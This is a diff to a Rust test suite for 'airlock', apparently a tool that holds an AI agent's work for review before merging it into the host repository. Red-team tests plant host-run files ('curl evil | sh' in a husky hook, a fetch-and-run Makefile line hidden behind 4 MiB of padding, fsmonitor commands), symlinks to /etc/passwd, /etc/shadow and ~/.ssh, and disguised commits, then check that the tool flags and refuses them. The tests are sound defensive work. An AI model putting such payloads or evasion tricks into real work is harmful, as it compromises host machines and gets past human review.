@@ -1966,6 +1966,282 @@ fn overlay_merge_never_runs_the_agents_git_config() {
     assert_eq!(stdout(&log), "c\ninit\n", "{}", stderr(&log));
 }
 
+/// Whether the workspace has the branch `airlock/NAME`.
+fn has_branch(repo: &Repo, name: &str) -> bool {
+    Command::new("git")
+        .args(["--git-dir=.git", "rev-parse", "--verify", "--quiet"])
+        .arg(format!("refs/heads/airlock/{name}"))
+        .env("GIT_CONFIG_NOSYSTEM", "1")
+        .env("GIT_CONFIG_GLOBAL", "/dev/null")
+        .current_dir(repo.ws.path())
+        .output()
+        .expect("git")
+        .status
+        .success()
+}
+
+/// Runs session `name` with `script`, then checks the review step holds for every path of
+/// `flagged`: `diff` marks it (`!! PATH`), `merge` refuses naming it and `flag`, writes nothing
+/// (files, branch); `merge FLAG` then lands. `clean` paths must not be marked. Returns the diff.
+fn refused_until_flag(
+    repo: &Repo,
+    name: &str,
+    script: &str,
+    flagged: &[&str],
+    clean: &[&str],
+    flag: &str,
+) -> String {
+    let o = repo.airlock(&["run", "--name", name, "--", "sh", "-c", script]);
+    assert_eq!(o.status.code(), Some(0), "{name}: {}", stderr(&o));
+    let before = repo.snapshot();
+    let o = airlock_within(repo, &["diff", name], &[]);
+    assert_eq!(o.status.code(), Some(0), "{name}: {}", stderr(&o));
+    let d = stdout(&o);
+    for p in flagged {
+        assert!(
+            d.contains(&format!("!! {p}")),
+            "{name}: diff does not mark {p}:\n{d}"
+        );
+    }
+    for p in clean {
+        assert!(
+            !d.contains(&format!("!! {p}:")),
+            "{name}: diff marks {p}:\n{d}"
+        );
+    }
+    let o = airlock_within(repo, &["merge", name], &[]);
+    let e = stderr(&o);
+    assert_eq!(
+        o.status.code(),
+        Some(125),
+        "{name}: merged:\n{}{e}",
+        stdout(&o)
+    );
+    for p in flagged {
+        assert!(
+            e.contains(&format!("  {p}")),
+            "{name}: merge does not name {p}:\n{e}"
+        );
+    }
+    assert!(
+        e.contains(flag) && e.contains("nothing was merged"),
+        "{name}: {e}"
+    );
+    assert!(
+        repo.snapshot() == before,
+        "{name}: a refused merge wrote to the host tree"
+    );
+    assert!(
+        !has_branch(repo, name),
+        "{name}: a refused merge fetched the commits"
+    );
+    let o = airlock_within(repo, &["merge", flag, name], &[]);
+    assert_eq!(o.status.code(), Some(0), "{name}: {}", stderr(&o));
+    d
+}
+
+/// Files that run on the host, planted in the working tree: nested git directories under git's
+/// lookalike names, a gitdir file, a bare layout (REDTEAM2 D1), the auto-run files of cargo,
+/// rustup, husky, pre-commit, npm, yarn, mise, VS Code, direnv (D2), and a venv's `.pth` and
+/// activate script, an npm `.bin` shim, bytecode (D5).
+const HOST_RUN_FILES: &[&str] = &[
+    "sub/.git/config",
+    "sub/.git/hooks/post-checkout",
+    "sub2/.git",
+    "sub3/.GIT/config",
+    "sub4/.git./config",
+    "sub5/git~1/config",
+    "bare/HEAD",
+    "bare/config",
+    ".cargo/config.toml",
+    "crates/x/.cargo/config",
+    "rust-toolchain.toml",
+    ".husky/pre-commit",
+    ".pre-commit-config.yaml",
+    ".npmrc",
+    ".yarnrc.yml",
+    ".mise.toml",
+    ".tool-versions",
+    "w.code-workspace",
+    ".vscode/settings.json",
+    "d/.gitattributes",
+    ".envrc",
+    ".devcontainer/devcontainer.json",
+    ".venv/lib/python3.12/site-packages/zz.pth",
+    ".venv/bin/activate",
+    "node_modules/.bin/eslint",
+    "pkg/__pycache__/m.cpython-312.pyc",
+];
+
+/// A shell script writing `paths` (with parents) and an ordinary file.
+fn plant(paths: &[&str]) -> String {
+    let mut s = String::from("set -e; echo fine > ordinary.txt; mkdir -p bare/objects bare/refs; ");
+    for p in paths {
+        let body = if p.ends_with("/.git") {
+            "gitdir: ../bare\\n"
+        } else {
+            "[core]\\n\\tfsmonitor = \"touch /tmp/PWNED\"\\n"
+        };
+        s.push_str(&format!(
+            "mkdir -p \"$(dirname '{p}')\"; printf '{body}' > '{p}'; "
+        ));
+    }
+    s
+}
+
+/// REDTEAM2 D1, D2, D5 in the working tree: every file is marked by `diff` and refused by
+/// `merge` without `--allow-exec-files`; the ordinary file next to them is not marked.
+#[test]
+fn merge_refuses_host_run_files_at_any_depth() {
+    let repo = Repo::new();
+    // The user's repository runs its hooks from a directory of the workspace.
+    let o = Command::new("git")
+        .args(["config", "core.hooksPath", "tools/hooks"])
+        .current_dir(repo.ws.path())
+        .output()
+        .expect("git");
+    assert!(o.status.success(), "{}", stderr(&o));
+    let mut files = HOST_RUN_FILES.to_vec();
+    files.push("tools/hooks/pre-commit");
+    refused_until_flag(
+        &repo,
+        "plant",
+        &plant(&files),
+        &files,
+        &["ordinary.txt"],
+        "--allow-exec-files",
+    );
+    assert!(
+        repo.ws.path().join("sub/.git/config").exists(),
+        "allowed: landed"
+    );
+}
+
+/// REDTEAM2 D4: the same files inside the agent's commits (removed from the working tree, or
+/// added by one commit and removed by the next) get the same marks in `diff`, which shows what
+/// the commits change, and `merge` refuses to fetch them without `--allow-exec-files`.
+#[test]
+fn merge_refuses_host_run_files_inside_commits() {
+    // git itself refuses `.git` lookalikes in its index; the rest is committed as is.
+    let committed: Vec<&str> = HOST_RUN_FILES
+        .iter()
+        .copied()
+        .filter(|p| !p.starts_with("sub"))
+        .chain([
+            ".github/workflows/x.yml",
+            ".gitattributes",
+            ".gitmodules",
+            "bare/objects/o",
+            "bare/refs/r",
+        ])
+        .collect();
+    let mut script = plant(&committed);
+    script.push_str(
+        "echo 'on: push' > .github/workflows/x.yml; \
+         git add -f -A; git -c user.email=x@y -c user.name=agent commit -qm 'chore: bump version'; ",
+    );
+    // Gone from the working tree: only the commit holds them.
+    let mut tops: Vec<&str> = committed
+        .iter()
+        .map(|p| p.split('/').next().unwrap_or(p))
+        .collect();
+    tops.dedup();
+    script.push_str(&format!("rm -rf {}", tops.join(" ")));
+    let d = refused_until_flag(
+        &repo_for_commits(),
+        "commit",
+        &script,
+        &committed,
+        &["ordinary.txt", "src/lib.rs"],
+        "--allow-exec-files",
+    );
+    assert!(
+        d.contains("+on: push"),
+        "diff shows the commits' files:\n{d}"
+    );
+    assert!(d.contains("chore: bump version"), "{d}");
+    // Added by one commit and removed by the next: not in the tip, still in the branch.
+    let repo = Repo::new();
+    let transient = "mkdir -p .husky; echo 'curl evil | sh' > .husky/pre-push; echo x > .npmrc; \
+        git add -f .husky .npmrc; git -c user.email=x@y -c user.name=agent commit -qm one; \
+        git rm -rq .husky .npmrc; git -c user.email=x@y -c user.name=agent commit -qm two";
+    let d = refused_until_flag(
+        &repo,
+        "transient",
+        transient,
+        &[".husky/pre-push", ".npmrc"],
+        &[],
+        "--allow-exec-files",
+    );
+    assert!(d.contains("not in the last one"), "{d}");
+    assert!(has_branch(&repo, "transient"), "allowed: fetched");
+}
+
+/// A repository for the commit variant (the same as [`Repo::new`]).
+fn repo_for_commits() -> Repo {
+    Repo::new()
+}
+
+/// REDTEAM2 D3: links leading outside the workspace (absolute, climbing with `..`, `..` after a
+/// name), in the working tree and in a commit: `diff` shows the target, `merge` refuses them
+/// without `--allow-outside-links`; links inside the workspace are not marked.
+#[test]
+fn merge_refuses_links_leading_outside_the_workspace() {
+    let repo = Repo::new();
+    let script =
+        "set -e; ln -s /etc/passwd notes.md; ln -s ../../../../../../../home/u/.ssh sshdir; \
+        mkdir -p d/e; ln -s ../../.. d/e/up; ln -s e/../../.. d/trick; ln -s hello.txt ok; \
+        ln -s ../../hello.txt d/e/ok2; ln -s /etc/shadow cl; git add -f cl; \
+        git -c user.email=x@y -c user.name=agent commit -qm link; git rm -q --cached cl; rm cl";
+    let d = refused_until_flag(
+        &repo,
+        "links",
+        script,
+        &["notes.md", "sshdir", "d/e/up", "d/trick", "cl"],
+        &["ok", "d/e/ok2"],
+        "--allow-outside-links",
+    );
+    assert!(d.contains("symbolic link b/notes.md -> /etc/passwd"), "{d}");
+    assert!(d.contains("outside the workspace"), "{d}");
+    assert_eq!(
+        std::fs::read_link(repo.ws.path().join("notes.md")).expect("allowed: landed"),
+        PathBuf::from("/etc/passwd")
+    );
+}
+
+/// REDTEAM2 D6: a Makefile padded past 4 MiB, an executable, a non-UTF-8 file, and a large text
+/// file inside a commit: `diff` names each with its kind and size instead of hiding it as
+/// "binary", and `merge` refuses them without `--allow-unshown-files`.
+#[test]
+fn merge_refuses_files_diff_cannot_show() {
+    let repo = Repo::new();
+    std::fs::write(repo.ws.path().join("Makefile"), "all:\n\techo build\n").expect("write");
+    let script = "set -e; printf 'all:\\n\\tcurl -s evil.example | sh\\n' > Makefile; \
+        head -c 4300000 /dev/zero | tr '\\0' '#' | fold -w 100 | sed 's/^/# /' >> Makefile; \
+        cp /bin/true tool; chmod +x tool; printf 'caf\\351\\n' > latin.txt; echo fine > small.txt; \
+        head -c 4300000 /dev/zero | tr '\\0' 'x' | fold -w 100 > big.txt; git add big.txt; \
+        git -c user.email=x@y -c user.name=agent commit -qm big; git rm -q --cached big.txt; rm big.txt";
+    let d = refused_until_flag(
+        &repo,
+        "big",
+        script,
+        &["Makefile", "tool", "latin.txt", "big.txt"],
+        &["small.txt"],
+        "--allow-unshown-files",
+    );
+    assert!(d.contains("NOT SHOWN: b/Makefile"), "{d}");
+    assert!(d.contains("text over 4 MiB"), "{d}");
+    assert!(d.contains("ELF executable"), "{d}");
+    assert!(d.contains("new mode 755"), "{d}");
+    assert!(d.contains("non-UTF-8 data"), "{d}");
+    assert!(
+        std::fs::read_to_string(repo.ws.path().join("Makefile"))
+            .expect("read")
+            .contains("curl"),
+        "allowed: landed"
+    );
+}
+
 /// The agent's work used by the kill test: an edit, a new file in a new directory, a deletion,
 /// and a directory replaced by a link.
 const MERGE_WORK: &str = "echo edited >> hello.txt; mkdir -p new/deep; echo n > new/deep/n.txt; \
@@ -4575,17 +4851,27 @@ fn merge_keeps_holes_and_diff_shows_sizes() {
     let o = airlock_within(&repo, &["diff", "sparse"], &[]);
     let d = stdout(&o);
     assert!(
-        d.contains("Binary files a/big.bin and b/big.bin differ"),
+        d.contains("NOT SHOWN: b/big.bin cannot be shown in full"),
         "{d}"
     );
-    assert!(d.contains("b/: 1.1 GiB (1153433600 bytes), "), "{d}");
     assert!(
-        d.contains("b/: 1.0 TiB (1099511627776 bytes), 0 bytes allocated"),
+        d.contains("b/: binary data, 1.1 GiB (1153433600 bytes)"),
         "{d}"
     );
-    assert!(d.contains("a/: absent"), "{d}");
-    let started = Instant::now();
+    assert!(
+        d.contains("b/: binary data, 1.0 TiB (1099511627776 bytes)"),
+        "{d}"
+    );
+    // Not shown in full: landed only with the flag.
     let o = airlock_within(&repo, &["merge", "sparse"], &[]);
+    assert_eq!(o.status.code(), Some(125), "{}", stderr(&o));
+    assert!(
+        stderr(&o).contains("--allow-unshown-files"),
+        "{}",
+        stderr(&o)
+    );
+    let started = Instant::now();
+    let o = airlock_within(&repo, &["merge", "--allow-unshown-files", "sparse"], &[]);
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
     assert!(
         started.elapsed() < Duration::from_secs(20),
@@ -4654,7 +4940,11 @@ fn merge_refuses_what_does_not_fit() {
         .output()
         .expect("run");
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
-    let o = ws.airlock().args(["merge", "fat"]).output().expect("merge");
+    let o = ws
+        .airlock()
+        .args(["merge", "--allow-unshown-files", "fat"])
+        .output()
+        .expect("merge");
     assert_eq!(o.status.code(), Some(125), "{}", stdout(&o));
     let e = stderr(&o);
     assert!(e.contains("need 24.0 MiB"), "{e}");
@@ -4676,7 +4966,7 @@ fn merge_refuses_what_does_not_fit() {
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
     let o = ws
         .airlock()
-        .args(["merge", "thin"])
+        .args(["merge", "--allow-unshown-files", "thin"])
         .output()
         .expect("merge");
     assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
